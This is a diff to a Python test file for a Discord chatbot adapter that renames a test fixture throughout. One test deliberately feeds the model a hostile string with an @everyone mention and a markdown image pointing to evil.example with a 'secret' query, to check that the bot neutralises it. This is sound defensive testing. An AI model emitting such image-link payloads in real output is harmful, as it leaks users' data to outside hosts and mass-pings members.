@@ -9,7 +9,7 @@ import pytest
 from adapters.discord import surface
 from core.chat.presence import SOON
 from core.domain.records import Ask
-from tests.discord.house import House
+from tests.discord.house import DiscordPonte
 from tests.fakes.discord import DiscordPerson, FakeDiscord
 from tests.fakes.discord.world import Payload
 from tests.fakes.loop_clock import LoopClock, run_ready
@@ -18,7 +18,7 @@ from tests.fakes.loop_clock import LoopClock, run_ready
 class Gate:
     """A model that thinks, before its first word, until it is told to go on."""
 
-    def __init__(self, house: House) -> None:
+    def __init__(self, house: DiscordPonte) -> None:
         self.reached = asyncio.Event()
         self._open = asyncio.Event()
         house.model.gate = self._wait
@@ -32,7 +32,7 @@ class Gate:
 
 
 async def test_a_model_that_thinks_is_seen_to_before_its_first_word(
-    discord: FakeDiscord, house: House, ana: DiscordPerson, monkeypatch: pytest.MonkeyPatch
+    discord: FakeDiscord, house: DiscordPonte, ana: DiscordPerson, monkeypatch: pytest.MonkeyPatch
 ) -> None:
     assert 0.3 < SOON < 0.8, "seconds; a quicker answer needs no sign"
     monkeypatch.setattr(surface, "SOON", 3.0)
@@ -48,7 +48,7 @@ async def test_a_model_that_thinks_is_seen_to_before_its_first_word(
 
 
 async def test_the_sign_is_renewed_until_the_answer_stands(
-    discord: FakeDiscord, house: House, ana: DiscordPerson, monkeypatch: pytest.MonkeyPatch
+    discord: FakeDiscord, house: DiscordPonte, ana: DiscordPerson, monkeypatch: pytest.MonkeyPatch
 ) -> None:
     monkeypatch.setattr("core.chat.posting.PROMPT", 60.0)  # the answer is posted whole
     monkeypatch.setattr(surface.ChannelSurface, "interval", 60.0)
@@ -73,7 +73,7 @@ async def test_the_sign_is_renewed_until_the_answer_stands(
 
 
 async def test_text_that_does_not_grow_is_no_sign(
-    discord: FakeDiscord, house: House, ana: DiscordPerson, monkeypatch: pytest.MonkeyPatch
+    discord: FakeDiscord, house: DiscordPonte, ana: DiscordPerson, monkeypatch: pytest.MonkeyPatch
 ) -> None:
     monkeypatch.setattr(surface, "STILL", 0.3)
     monkeypatch.setattr(surface, "AGAIN", 0.05)
@@ -89,7 +89,7 @@ async def test_text_that_does_not_grow_is_no_sign(
 
 
 async def test_an_answer_that_comes_at_once_needs_no_sign(
-    discord: FakeDiscord, house: House, ana: DiscordPerson, monkeypatch: pytest.MonkeyPatch
+    discord: FakeDiscord, house: DiscordPonte, ana: DiscordPerson, monkeypatch: pytest.MonkeyPatch
 ) -> None:
     monkeypatch.setattr(surface, "SOON", 60.0)
     await house.open()
@@ -99,7 +99,7 @@ async def test_an_answer_that_comes_at_once_needs_no_sign(
 
 
 async def test_while_a_thread_is_being_made_the_sign_shows_where_the_question_stands(
-    discord: FakeDiscord, house: House, ana: DiscordPerson
+    discord: FakeDiscord, house: DiscordPonte, ana: DiscordPerson
 ) -> None:
     channel = discord.text_channel(discord.guild("Bolts", ana), "general")
     gate = Gate(house)
@@ -114,7 +114,7 @@ async def test_while_a_thread_is_being_made_the_sign_shows_where_the_question_st
 
 
 async def test_a_command_whose_token_ends_shows_typing_in_its_channel(
-    discord: FakeDiscord, house: House, ana: DiscordPerson
+    discord: FakeDiscord, house: DiscordPonte, ana: DiscordPerson
 ) -> None:
     gate = Gate(house)
     discord.interactions.deadline = -1.0
@@ -127,7 +127,7 @@ async def test_a_command_whose_token_ends_shows_typing_in_its_channel(
 
 
 async def test_what_is_private_shows_no_typing_to_others(
-    discord: FakeDiscord, house: House, ana: DiscordPerson
+    discord: FakeDiscord, house: DiscordPonte, ana: DiscordPerson
 ) -> None:
     channel = discord.text_channel(discord.guild("Bolts", ana), "general")
     await house.open()
@@ -139,7 +139,7 @@ async def test_what_is_private_shows_no_typing_to_others(
 
 
 async def test_a_turn_that_is_put_back_types_no_more(
-    discord: FakeDiscord, house: House, ana: DiscordPerson, monkeypatch: pytest.MonkeyPatch
+    discord: FakeDiscord, house: DiscordPonte, ana: DiscordPerson, monkeypatch: pytest.MonkeyPatch
 ) -> None:
     monkeypatch.setattr(surface, "SOON", 0.01)
     monkeypatch.setattr(surface, "AGAIN", 0.02)
@@ -160,7 +160,7 @@ async def test_a_turn_that_is_put_back_types_no_more(
 
 
 async def test_a_message_that_waits_wears_an_hourglass(
-    discord: FakeDiscord, house: House, ana: DiscordPerson, monkeypatch: pytest.MonkeyPatch
+    discord: FakeDiscord, house: DiscordPonte, ana: DiscordPerson, monkeypatch: pytest.MonkeyPatch
 ) -> None:
     monkeypatch.setattr(surface, "PATIENCE", 0.05)
     house.model.script = {"tell me": ["one", " two"]}
@@ -180,7 +180,7 @@ async def test_a_message_that_waits_wears_an_hourglass(
 
 
 async def test_an_answer_grows_by_edits_that_are_never_queued(
-    discord: FakeDiscord, house: House, ana: DiscordPerson
+    discord: FakeDiscord, house: DiscordPonte, ana: DiscordPerson
 ) -> None:
     words = [f"word{n} " for n in range(200)]
     house.model.script = {"tell me": words}
@@ -202,7 +202,7 @@ async def test_an_answer_grows_by_edits_that_are_never_queued(
 
 
 async def test_a_long_answer_comes_in_parts_with_whole_code_blocks(
-    house: House, ana: DiscordPerson
+    house: DiscordPonte, ana: DiscordPerson
 ) -> None:
     code = "\n".join(f"line_{n} = {n}" for n in range(200))
     house.model.script = {"tell me": [f"Here:\n\n```python\n{code}\n```\n\nDone."]}
@@ -217,7 +217,7 @@ async def test_a_long_answer_comes_in_parts_with_whole_code_blocks(
     await ana.discord.wait_until(lambda: not any(buttons(part) for part in seen))
 
 
-async def test_a_very_long_answer_ends_in_a_file(house: House, ana: DiscordPerson) -> None:
+async def test_a_very_long_answer_ends_in_a_file(house: DiscordPonte, ana: DiscordPerson) -> None:
     long = "\n\n".join(f"paragraph {n} " + "x" * 900 for n in range(20))
     house.model.script = {"tell me": [long]}
     await house.open()
@@ -232,7 +232,7 @@ async def test_a_very_long_answer_ends_in_a_file(house: House, ana: DiscordPerso
 
 
 async def test_a_wide_table_comes_as_records_and_a_long_one_as_a_file(
-    house: House, ana: DiscordPerson
+    house: DiscordPonte, ana: DiscordPerson
 ) -> None:
     rows = "\n".join(f"| {n} | Ana {n} | Lisboa | =1+1 |" for n in range(60))
     table = f"| id | name | city | note |\n|---|---|---|---|\n{rows}"
@@ -250,7 +250,7 @@ async def test_a_wide_table_comes_as_records_and_a_long_one_as_a_file(
 
 
 async def test_model_text_mentions_nobody_and_fetches_nothing(
-    house: House, ana: DiscordPerson
+    house: DiscordPonte, ana: DiscordPerson
 ) -> None:
     evil = "@everyone <@123456789012345678> ![x](https://evil.example/?q=secret)"
     house.model.script = {"say it": [evil]}
@@ -264,7 +264,7 @@ async def test_model_text_mentions_nobody_and_fetches_nothing(
 
 
 async def test_files_in_are_kept_by_their_own_name_and_the_large_one_is_not_read(
-    discord: FakeDiscord, house: House, ana: DiscordPerson
+    discord: FakeDiscord, house: DiscordPonte, ana: DiscordPerson
 ) -> None:
     await house.open()
     large = b"x" * (21 * 1024 * 1024)
@@ -279,7 +279,7 @@ async def test_files_in_are_kept_by_their_own_name_and_the_large_one_is_not_read
 
 
 async def test_a_file_that_the_cdn_does_not_give_does_not_take_the_turn(
-    discord: FakeDiscord, house: House, ana: DiscordPerson
+    discord: FakeDiscord, house: DiscordPonte, ana: DiscordPerson
 ) -> None:
     await house.open()
     discord.refuse("GET", "/cdn/*", 404, times=9)
